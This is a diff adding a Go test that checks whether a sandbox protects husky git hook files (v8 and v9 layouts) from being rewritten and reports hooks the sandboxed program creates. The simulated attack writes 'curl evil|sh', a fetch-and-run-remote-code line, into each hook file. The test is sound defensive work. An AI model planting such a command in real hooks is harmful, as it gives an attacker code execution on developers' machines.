@@ -107,3 +107,54 @@ func watchOpens(t *testing.T, path string) func() int {
 		}
 	}
 }
+
+// TestGitHusky: with husky's layouts (made by hand), what its hooks run
+// is held too — v9 (core.hooksPath = .husky/_): the stubs, the h they
+// source and the user's hooks in .husky they run, and a new one there is
+// reported; v8 (core.hooksPath = .husky): the hooks and _/husky.sh they
+// source. Other files in .husky stay writable.
+func TestGitHusky(t *testing.T) {
+	layouts := []struct {
+		name, hooksPath string
+		files           []string // made before the run, each held
+		made            string   // made by the program, reported
+	}{
+		{"v9", ".husky/_", []string{".husky/_/h", ".husky/_/pre-commit", ".husky/pre-commit"}, ".husky/post-commit"},
+		{"v8", ".husky", []string{".husky/_/husky.sh", ".husky/pre-commit"}, ".husky/post-commit"},
+	}
+	for _, u := range users {
+		for _, l := range layouts {
+			t.Run(u.name+"/"+l.name, func(t *testing.T) {
+				w := newWorld(t, u)
+				repo := gitRepo(t, w)
+				mustMkdir(t, filepath.Join(repo, ".husky", "_"))
+				for _, f := range l.files {
+					writeFile(t, filepath.Join(repo, f), "#!/bin/sh\n")
+				}
+				f, err := os.OpenFile(filepath.Join(repo, ".git", "config"), os.O_APPEND|os.O_WRONLY, 0)
+				if err != nil {
+					t.Fatal(err)
+				}
+				f.WriteString("[core]\n\thooksPath = " + l.hooksPath + "\n")
+				f.Close()
+				chownTree(t, w.home, u)
+				script := "echo ok > .husky/notes; "
+				for _, f := range append(l.files, l.made) {
+					script += "echo 'curl evil|sh' > " + f + "; "
+				}
+				r := w.sh("sandbox", script+"cat .husky/notes", "--workdir", repo)
+				for _, f := range l.files {
+					if b, _ := os.ReadFile(filepath.Join(repo, f)); strings.Contains(string(b), "evil") {
+						t.Errorf("%s was rewritten", f)
+					}
+				}
+				if !strings.Contains(r.stderr, "the program made "+filepath.Join(repo, l.made)) {
+					t.Errorf("no report of the %s the program made; stderr %q", l.made, r.stderr)
+				}
+				if !strings.Contains(r.stdout, "ok") {
+					t.Errorf(".husky/notes was not writable: stdout %q, stderr %q", r.stdout, r.stderr)
+				}
+			})
+		}
+	}
+}
